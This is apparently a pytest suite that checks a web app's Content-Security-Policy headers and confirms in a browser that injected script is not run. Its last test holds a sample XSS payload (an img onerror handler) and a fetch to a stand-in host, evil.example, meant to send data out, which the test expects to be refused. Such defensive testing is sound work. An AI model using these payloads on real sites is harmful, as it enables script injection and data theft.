"""The second wall: what the browser is told to refuse.

That no page needs it every journey shows: a violation is an error in the console, which fails it.
"""

from __future__ import annotations

import re
import urllib.request
from email.message import Message

import pytest

from pages.shell.client.headers import headers
from tests.browser.conftest import Open, rest


def answered(address: str) -> Message:
    with urllib.request.urlopen(address, timeout=20) as answer:
        return answer.headers


@pytest.mark.parametrize("path", ["/", "/Attention", "/_stcore/health", "/favicon.png"])
def test_every_answer_has_the_headers(server: str, path: str) -> None:
    found = answered(server + path)
    assert {name: found[name] for name in headers()} == headers()


def test_nothing_may_come_from_or_go_to_another_place(server: str) -> None:
    told = answered(server)["Content-Security-Policy"]
    rules = dict(rule.split(" ", 1) for rule in told.split("; "))
    assert rules["default-src"] == "'none'" and rules["frame-ancestors"] == "'self'"
    assert rules["connect-src"] == "'self'" and rules["object-src"] == "'none'"
    assert not re.search(r"https?:|wss?:|\*", told)
    assert "unsafe" not in rules["script-src"]


def test_a_script_that_came_into_a_page_is_not_run(open_at: Open) -> None:
    page = open_at("/", allow=("Content Security Policy",))
    page.evaluate(
        """() => {
          const holder = document.createElement("div");
          holder.innerHTML = "<img src=x onerror='globalThis.hostile = 1'>";
          document.body.append(holder);
          const script = document.createElement("script");
          script.textContent = "globalThis.hostile = 2";
          document.body.append(script);
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("globalThis.hostile") is None
    asked = page.evaluate(
        "() => fetch('https://evil.example/?stolen').then(() => 'sent', () => 'refused')"
    )
    assert asked == "refused"
    rest(page)
